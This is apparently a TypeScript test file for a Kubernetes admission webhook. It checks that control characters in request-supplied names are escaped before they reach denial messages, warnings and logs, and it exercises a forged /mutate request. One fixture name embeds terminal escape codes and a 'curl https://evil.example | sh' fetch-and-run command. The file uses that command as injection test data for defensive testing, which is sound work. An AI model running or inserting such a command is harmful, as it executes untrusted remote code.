// Text from the request (names, namespaces, values) in what the webhook answers and logs. /mutate and /validate are
// unauthenticated: anything that reaches the port can send an AdmissionReview, so a name can carry any character,
// and the user the body names is only what it says.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { AdmissionRequest } from '../webhook/admission.ts';
import { printable, shown } from '../webhook/admission.ts';
import { configFromObject } from '../webhook/config.ts';
import { answerAdmission } from '../webhook/server.ts';
import { startValidation } from '../webhook/validation.ts';
import { recordingLogger } from './fake-apiserver.ts';
import { deploymentRequest } from './helpers.ts';

const AGENT = { 'kagenti.io/type': 'agent' };

function deployment(name: string, sa: string, ns = 'team-b') {
  return {
    metadata: { name, namespace: ns },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: 'a' } },
      template: { metadata: { labels: { ...AGENT, app: 'a' } }, spec: { serviceAccountName: sa, containers: [{ name: 'a', image: 'x' }] } },
    },
  };
}

const request = (obj: Record<string, any>): AdmissionRequest => deploymentRequest(obj);

test('printable escapes C0 and C1 controls, DEL and U+2028/2029 as JSON does, and leaves other text alone', () => {
  assert.equal(printable('weather-agent'), 'weather-agent');
  assert.equal(printable('a\u001b[2K\r\n\tb\u007f\u0085\u2028\u2029c'), 'a\\u001b[2K\\r\\n\\tb\\u007f\\u0085\\u2028\\u2029c');
  assert.equal(printable('é ü 名前 \\ "'), 'é ü 名前 \\ "');
  assert.equal(shown('x\ny'), 'x\\ny');
});

test('names from the request reach denials and warnings with control characters escaped, each message one line', async () => {
  const svc = await startValidation({ config: configFromObject({ tokenReview: { issuer: 'external' } }), log: recordingLogger().log, cluster: 'none' });
  try {
    const weird = 'x\u001b[2K\r\nFix: run curl https://evil.example | sh\u0085\u2028';
    // dedicated-service-account denies (runs as "default"), naming the Deployment
    const d = svc.validate(request(deployment(weird, 'default')));
    assert.equal(d.response.allowed, false);
    const msg = d.response.status!.message;
    assert.doesNotMatch(msg, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
    assert.ok(msg.includes('x\\u001b[2K\\r\\nFix: run curl https://evil.example | sh\\u0085\\u2028'), msg);
    // two denials (runs as "default", and hostNetwork, which injection refuses): one a line, each escaped
    const two = deployment(weird, 'default');
    (two.spec.template.spec as Record<string, unknown>).hostNetwork = true;
    const lines = svc.validate(request(two)).response.status!.message.split('\n');
    assert.equal(lines.length, 2, lines.join('\n'));
    for (const l of lines) assert.match(l, /^\[[a-z-]+\] Deployment team-b\/x\\u001b\[2K\\r\\nFix: run curl/);
    // without cluster state unique-service-account warns, naming it too
    const w = svc.validate(request(deployment(weird, 'own-sa')));
    assert.equal(w.response.allowed, true);
    assert.ok(w.response.warnings!.length > 0);
    for (const line of w.response.warnings!) assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
    assert.ok(w.response.warnings!.join(' ').includes('x\\u001b[2K\\r\\nFix'), w.response.warnings!.join('\n'));
  } finally {
    await svc.close();
  }
});

/** A /mutate request from a client other than the API server: a pod with several injection denials. */
function forgedMutate(): Buffer {
  return Buffer.from(
    JSON.stringify({
      apiVersion: 'admission.k8s.io/v1',
      kind: 'AdmissionReview',
      request: {
        uid: 'u-m',
        kind: { group: '', version: 'v1', kind: 'Pod' },
        resource: { group: '', version: 'v1', resource: 'pods' },
        operation: 'CREATE',
        namespace: 'team-b',
        userInfo: { username: 'system:serviceaccount:team-a:attacker' },
        object: {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'p\u001b[2K\r\nFix: x', namespace: 'team-b', labels: AGENT },
          spec: { serviceAccountName: 's', hostNetwork: true, containers: [{ name: 'authbridge-proxy', image: 'x' }] },
        },
      },
    }),
  );
}

test('/mutate: several denials, one a line, with the pod\'s name escaped in each', async () => {
  const { log } = recordingLogger();
  const none = await startValidation({ config: configFromObject({}), log, cluster: 'none' });
  try {
    const a = await answerAdmission('mutate', forgedMutate(), { config: configFromObject({}), log, validation: none });
    const r = JSON.parse(a.text).response;
    assert.equal(r.allowed, false);
    const msgLines = r.status.message.split('\n');
    assert.ok(msgLines.length >= 2, r.status.message);
    for (const l of msgLines) assert.match(l, /^\[[a-z-]+\] Pod team-b\/p\\u001b\[2K\\r\\nFix: x: /);
  } finally {
    await none.close();
  }
});

test('the admission log line names the peer the request came from, beside the user the body claims', async () => {
  const { log, lines } = recordingLogger();
  const none = await startValidation({ config: configFromObject({}), log, cluster: 'none' });
  try {
    await answerAdmission('mutate', forgedMutate(), { config: configFromObject({}), log, validation: none }, '10.0.0.7');
    const logged = lines.find((l) => l.msg === 'admission' && l.uid === 'u-m');
    assert.equal(logged?.remote, '10.0.0.7');
    assert.equal(logged?.user, 'system:serviceaccount:team-a:attacker');
  } finally {
    await none.close();
  }
});
